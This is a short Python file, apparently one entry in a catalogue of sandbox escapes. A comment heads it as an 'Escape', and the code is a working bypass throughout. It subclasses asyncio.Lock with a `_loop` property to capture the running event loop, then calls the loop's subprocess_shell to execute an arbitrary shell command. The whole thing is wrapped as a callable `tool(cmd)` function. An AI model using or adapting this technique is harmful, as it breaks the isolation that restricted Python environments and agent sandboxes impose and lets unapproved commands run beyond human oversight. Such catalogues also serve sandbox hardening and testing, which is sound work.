# family: process
# Escape: an asyncio.Lock subclass defines `_loop` as a property; contending for the lock makes asyncio store
# the running loop through the setter. The loop's subprocess_shell starts a shell command.
import asyncio
import types

class Mutex(asyncio.Lock):
    seen = None
    def _read(self):
        return Mutex.seen
    def _write(self, value):
        Mutex.seen = value
    _loop = property(_read, _write)

async def main(cmd: str) -> int:
    lock = Mutex()
    await lock.acquire()
    try:
        await asyncio.wait_for(lock.acquire(), 0.01)
    except asyncio.TimeoutError:
        pass
    proto = types.SimpleNamespace(connection_made=print, pipe_data_received=print, pipe_connection_lost=print,
                                  process_exited=print, connection_lost=print)
    transport, _ = await Mutex.seen.subprocess_shell(lambda: proto, cmd)
    return transport.get_pid()


def tool(cmd: str) -> int:
    return asyncio.run(main(cmd))
